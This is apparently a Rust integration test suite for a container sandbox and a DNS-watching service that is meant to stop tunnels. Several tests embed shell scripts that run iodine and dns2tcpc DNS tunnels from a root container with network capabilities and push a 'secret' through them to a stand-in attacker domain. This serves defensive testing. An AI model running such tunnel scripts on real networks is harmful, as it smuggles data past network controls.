//! Real containers: an OCI runtime, a root file system, the shipped recipe, a tunnel inside that is stopped.

mod world;

use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::time::Duration;

use world::ns::Process;
use world::staunch::{Config, Staunch, binary};
use world::tunnel::{self, PASSWORD, Tool};
use world::{World, lockdown, relay, wait_for};

const TREE: &str = env!("CARGO_MANIFEST_DIR");
/// For a whole job.
const LIMIT: &str = "60";
const MOST_NAMES: usize = 12;
const MOST_OCTETS: usize = 256;

/// A root file system of busybox and of programs of this machine with their libraries.
fn rootfs(world: &World, programs: &[&str]) -> PathBuf {
    let root = world.path("rootfs");
    for dir in ["bin", "sbin", "etc", "proc", "dev", "sys", "tmp", "usr/bin", "usr/sbin", "run", "root"] {
        std::fs::create_dir_all(root.join(dir)).expect("directory");
    }
    for file in ["etc/resolv.conf", "job"] {
        std::fs::write(root.join(file), "").expect("written");
    }
    std::fs::copy(which("busybox").expect("busybox is installed"), root.join("bin/busybox")).expect("copied");
    for applet in ["sh", "cat", "grep", "id", "nc", "nslookup", "sleep", "timeout", "echo", "mkdir", "kill"] {
        std::os::unix::fs::symlink("busybox", root.join("bin").join(applet)).expect("linked");
    }
    std::os::unix::fs::symlink("../bin/busybox", root.join("sbin/ifconfig")).expect("linked");
    std::os::unix::fs::symlink("../bin/busybox", root.join("sbin/route")).expect("linked");
    for program in programs {
        let path = which(program).unwrap_or_else(|| panic!("{program} is installed"));
        world::copy_libraries(&path, &root);
        std::fs::copy(&path, root.join("usr/bin").join(program)).expect("copied");
    }
    root
}

fn which(program: &str) -> Option<PathBuf> {
    ["/usr/local/sbin", "/usr/local/bin", "/usr/sbin", "/usr/bin", "/sbin", "/bin"]
        .map(|dir| Path::new(dir).join(program))
        .into_iter()
        .find(|path| path.is_file())
}

/// A world with a runtime in it, or why there is none.
fn create() -> Option<World> {
    let mut world = World::create(1)?;
    if which("crun").is_none() {
        world::skip::lacking("crun");
        return None;
    }
    // The service guards the links that the recipe makes.
    world.agents[0].interface = "st-*".into();
    Some(world)
}

/// A job of the recipe in the world's gateway.
struct Job<'w> {
    world: &'w World,
    runtime: &'static str,
    staunch: PathBuf,
    template: PathBuf,
}

impl<'w> Job<'w> {
    fn new(world: &'w World) -> Self {
        Self { world, runtime: "crun", staunch: binary(), template: format!("{TREE}/deploy/oci/config.json").into() }
    }

    /// The same container, of a careless operator: root with `CAP_NET_ADMIN` and `CAP_NET_RAW`, and a tunnel device.
    fn careless(mut self) -> Self {
        let text = std::fs::read_to_string(&self.template).expect("the template");
        let mut config: serde_json::Value = serde_json::from_str(&text).expect("JSON");
        let given = serde_json::json!(["CAP_NET_ADMIN", "CAP_NET_RAW"]);
        config["process"]["user"] = serde_json::json!({ "uid": 0, "gid": 0 });
        for set in ["bounding", "effective", "permitted"] {
            config["process"]["capabilities"][set] = given.clone();
        }
        config["linux"]["devices"] =
            serde_json::json!([{ "path": "/dev/net/tun", "type": "c", "major": 10, "minor": 200, "fileMode": 438 }]);
        self.template = self.world.path("careless.json");
        std::fs::write(&self.template, config.to_string()).expect("written");
        self
    }

    /// Where nobody announces or ends a session.
    fn unannounced(mut self) -> Self {
        self.staunch = "true".into();
        self
    }

    fn run(&self, id: &str, address: &str, root: &Path, script: &str) -> Output {
        self.command(&["timeout", LIMIT], id, address, root, script).output().expect("the recipe runs")
    }

    /// The recipe, run by other words; without any the process is its shell.
    fn command(&self, by: &[&str], id: &str, address: &str, root: &Path, script: &str) -> Command {
        let job = self.world.path(&format!("{id}.job"));
        std::fs::write(&job, script).expect("written");
        let mut command = self.world.gw.command("sh");
        // crun does not know cgroups of both kinds side by side, and needs none.
        let (before, options) = match self.runtime {
            "crun" => ("umount -l /sys/fs/cgroup/unified 2>/dev/null; ", "--cgroup-manager=disabled"),
            "podman" => (
                "umount -l /sys/fs/cgroup/unified 2>/dev/null; ",
                "--cgroups=disabled --ulimit nofile=1024:1024 --ulimit nproc=1024:1024",
            ),
            _ => ("", ""),
        };
        command.arg("-c").arg(format!("{before}exec \"$@\"")).arg("sh").args(by);
        command.arg(format!("{TREE}/deploy/oci/sandbox.sh")).args([id, address]).arg(root).arg(job);
        command.env("GATEWAY", self.world.agents[0].gateway.to_string()).env("KIND", "interactive");
        command.env("RUNTIME", self.runtime).env("RUNTIME_OPTIONS", options).env("STAUNCH", &self.staunch);
        command.env("STAUNCH_SOCKET", self.world.path("state/admin.sock")).env("TEMPLATE", &self.template);
        // The state of a quarantine is looked at behind the job.
        command.env("KEEP_SESSION", "1").env("NETNS_PREFIX", format!("{}{}-c", world::ns::PREFIX, std::process::id()));
        command
    }
}

fn said(output: &Output) -> String {
    format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr))
}

/// Ordinary work, and what must not work.
const HONEST: &str = r#"
id -u
grep -E '^(CapEff|CapBnd|NoNewPrivs)' /proc/self/status
cat /etc/resolv.conf
nslookup www.site.example && echo LOOKED-UP
curl -sS -m 5 -o /dev/null http://www.site.example/ && echo FETCHED
curl -sS -m 5 -o /dev/null http://198.51.100.9/ 2>/dev/null && echo WENT-WITHOUT-A-NAME
nslookup elsewhere.site.example 203.0.113.53 >/dev/null 2>&1
(echo nameserver 203.0.113.53 >/etc/resolv.conf) 2>/dev/null && echo CHANGED-RESOLV-CONF
(echo x >/usr/bin/x) 2>/dev/null && echo WROTE-TO-THE-IMAGE
echo DONE
"#;

#[test]
fn ordinary_work_is_done_in_a_container_and_no_more() {
    let Some(world) = create() else { return };
    let staunch = Staunch::start(&world, &Config::enforce());
    lockdown::ok(&world.gw, &["apply", "--interfaces", "st-*", "--resolver", "10.77.1.1:53"]);
    let root = rootfs(&world, &["curl"]);
    let output = Job::new(&world).run("honest", "10.77.9.2", &root, HONEST);
    let said = said(&output);
    assert!(output.status.success(), "{}: {said}\n{}", output.status, staunch.tail());
    let lines: Vec<&str> = said.lines().collect();
    for line in ["1000", "nameserver 10.77.1.1", "LOOKED-UP", "FETCHED", "DONE"] {
        assert!(lines.contains(&line), "no `{line}`: {said}");
    }
    for line in ["CapEff:\t0000000000000000", "CapBnd:\t0000000000000000", "NoNewPrivs:\t1"] {
        assert!(lines.contains(&line), "no `{line}`: {said}");
    }
    for line in ["WENT-WITHOUT-A-NAME", "CHANGED-RESOLV-CONF", "WROTE-TO-THE-IMAGE"] {
        assert!(!lines.contains(&line), "`{line}`: {said}");
    }
    // A question to another server was led to us and is on record.
    let recorded = wait_for(Duration::from_secs(5), || {
        let events = staunch.events();
        let of = |name: &str| events.iter().any(|e| e["session"] == "honest" && e["qname"] == name);
        (of("www.site.example") && of("elsewhere.site.example")).then_some(())
    });
    assert!(recorded.is_some(), "{}", staunch.tail());
    // Others that many have.
    for (runtime, id, address) in [("runc", "again", "10.77.9.6"), ("podman", "engine", "10.77.9.7")] {
        if which(runtime).is_none() {
            println!("NOT COVERED: {runtime} is not installed");
            continue;
        }
        let output = Job { runtime, ..Job::new(&world) }.run(id, address, &root, HONEST);
        let said = self::said(&output);
        assert!(output.status.success() && said.contains("FETCHED"), "{runtime}: {}: {said}", output.status);
        for line in ["CapBnd:\t0000000000000000", "NoNewPrivs:\t1", "1000"] {
            assert!(said.lines().any(|one| one == line), "{runtime}: no `{line}`: {said}");
        }
        for line in ["WENT-WITHOUT-A-NAME", "CHANGED-RESOLV-CONF"] {
            assert!(!said.contains(line), "{runtime}: `{line}`: {said}");
        }
    }
    let left = world.gw.sh("ip -o link show; ip netns list");
    assert!(!String::from_utf8_lossy(&left.stdout).contains("st-"), "the recipe leaves nothing behind");
}

#[test]
fn a_second_start_of_the_same_id_leaves_the_first_alone() {
    let Some(world) = create() else { return };
    let root = rootfs(&world, &[]);
    let listen = |port| {
        let address = (world.agents[0].gateway, port);
        world.gw.run(async move { tokio::net::TcpListener::bind(address).await }).expect("a port of the gateway")
    };
    let started = listen(7101);
    // It waits until the second port is open, which is behind the second start.
    let script = "nc 10.77.1.1 7101 </dev/null\nuntil nc 10.77.1.1 7102 </dev/null; do sleep 0.2; done\necho DONE\n";
    let job = Job::new(&world).unannounced();
    std::thread::scope(|scope| {
        let first = scope.spawn(|| job.run("twice", "10.77.9.8", &root, script));
        let runs = world
            .gw
            .run(async move { tokio::time::timeout(Duration::from_secs(30), started.accept()).await.map(|_| ()) });
        let second = runs.is_ok().then(|| job.run("twice", "10.77.9.9", &root, "echo SECOND\n"));
        let third = job.run("thrice", "10.77.9.8", &root, "echo THIRD\n");
        let go = listen(7102);
        world.gw.spawn(async move { while go.accept().await.is_ok() {} });
        let first = first.join().expect("the first ends");
        let second = second.unwrap_or_else(|| panic!("the first does not run: {}", said(&first)));
        assert!(!second.status.success() && !said(&second).contains("SECOND"), "{}", said(&second));
        assert!(said(&second).contains("left alone"), "{}", said(&second));
        assert!(!third.status.success() && said(&third).contains("an address has one sandbox"), "{}", said(&third));
        assert!(first.status.success() && said(&first).contains("DONE"), "{}: {}", first.status, said(&first));
    });
    let left = world.gw.sh("ip -o link show; ip netns list");
    assert!(!String::from_utf8_lossy(&left.stdout).contains("twice"), "the first leaves nothing behind");
}

#[test]
fn whoever_ends_the_recipe_ends_the_job() {
    let Some(world) = create() else { return };
    let root = rootfs(&world, &[]);
    let job = Job::new(&world).unannounced();
    let command = job.command(&[], "ended", "10.77.9.8", &root, "echo BEGUN\nsleep 55\necho DONE\n");
    let mut process = Process::start(command, world.path("ended.log"));
    assert!(process.wait_for_log("BEGUN", Duration::from_secs(30)), "{}", process.log());
    // SAFETY: a plain system call on a process that this test has started.
    assert_eq!(unsafe { libc::kill(process.id() as i32, libc::SIGTERM) }, 0);
    let over = wait_for(Duration::from_secs(20), || (!process.runs()).then_some(()));
    assert!(over.is_some(), "it goes on: {}", process.log());
    assert!(!process.log().contains("DONE"), "{}", process.log());
    let left = world.gw.sh("ip -o link show; ip netns list; crun list 2>/dev/null");
    assert!(!String::from_utf8_lossy(&left.stdout).contains("ended"), "it leaves nothing behind");
}

/// iodine as the container's root, and a file that it is to carry.
fn iodine(i: usize, gateway: &str) -> String {
    format!(
        "mkdir -p /dev/net\niodine -f -r -P {PASSWORD} -T TXT -I 1 {gateway} t.{} &\nfor n in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15; \
         do\n  sleep 1\n  (echo secret; sleep 1) | timeout 2 nc 10.99.{}.1 {} && echo CARRIED\ndone\nkill %1\necho DONE\n",
        tunnel::domain(i),
        i + 1,
        7001 + i
    )
}

#[test]
fn a_tunnel_in_a_container_works_through_a_plain_forwarder() {
    let Some(world) = create() else { return };
    relay::start(&world);
    let root = rootfs(&world, &["iodine"]);
    let (server, drop) = tunnel::serve(&world, 0, Tool::Iodine("TXT"));
    let job = Job::new(&world).careless().unannounced();
    let output = job.run("control", "10.77.9.2", &root, &iodine(0, "10.77.1.1"));
    let arrived = wait_for(Duration::from_secs(2), || (!drop.bytes().is_empty()).then_some(()));
    assert!(arrived.is_some(), "the control carries nothing: {}\n{}", said(&output), server.log());
    assert!(said(&output).contains("Connection setup complete"), "{}", said(&output));
}

#[test]
fn a_tunnel_in_a_container_is_stopped() {
    let Some(world) = create() else { return };
    let staunch = Staunch::start(&world, &Config::enforce());
    lockdown::ok(&world.gw, &["apply", "--interfaces", "st-*", "--resolver", "10.77.1.1:53"]);
    let root = rootfs(&world, &["iodine", "dns2tcpc", "curl"]);
    // (session, tool, how, its script): the first as a careless operator's root, the second as an ordinary user.
    let dns2tcp = format!(
        "dns2tcpc -z t.{} -k {PASSWORD} -r drop -l 2222 -T TXT -d 1 10.77.1.1 &\nfor n in 1 2 3 4 5 6 7 8 9 10 11 12; do\n  sleep 1\n  \
         (echo secret; sleep 1) | timeout 2 nc 127.0.0.1 2222\ndone\nkill %1\necho DONE\n",
        tunnel::domain(1)
    );
    for (i, tool, id, address, script) in [
        (0, Tool::Iodine("TXT"), "iodine", "10.77.9.3", iodine(0, "10.77.1.1")),
        (1, Tool::Dns2tcp("TXT"), "dns2tcp", "10.77.9.4", dns2tcp),
    ] {
        let (_server, drop) = tunnel::serve(&world, i, tool);
        let job = if i == 0 { Job::new(&world).careless() } else { Job::new(&world) };
        let output = job.run(id, address, &root, &script);
        let said = said(&output);
        assert!(said.contains("DONE"), "{id}: {said}");
        let (names, octets) = world.upstream.leaked(&tunnel::domain(i));
        let state = staunch.session_state(id);
        println!(
            "FIGURE: {id} in a container: {} octets of the file arrived; {names} names with {octets} payload octets at the attacker; session {state}",
            drop.bytes().len()
        );
        assert_eq!(drop.bytes().len(), 0, "{id}: {said}");
        assert!(names <= MOST_NAMES && octets <= MOST_OCTETS, "{id}: {names} names, {octets} octets");
        assert_eq!(state, "quarantined", "{id}: {said}\n{}", staunch.tail());
    }
    // Another sandbox works on.
    let output = Job::new(&world).run("bystander", "10.77.9.5", &root, HONEST);
    assert!(said(&output).contains("FETCHED"), "{}", said(&output));
}
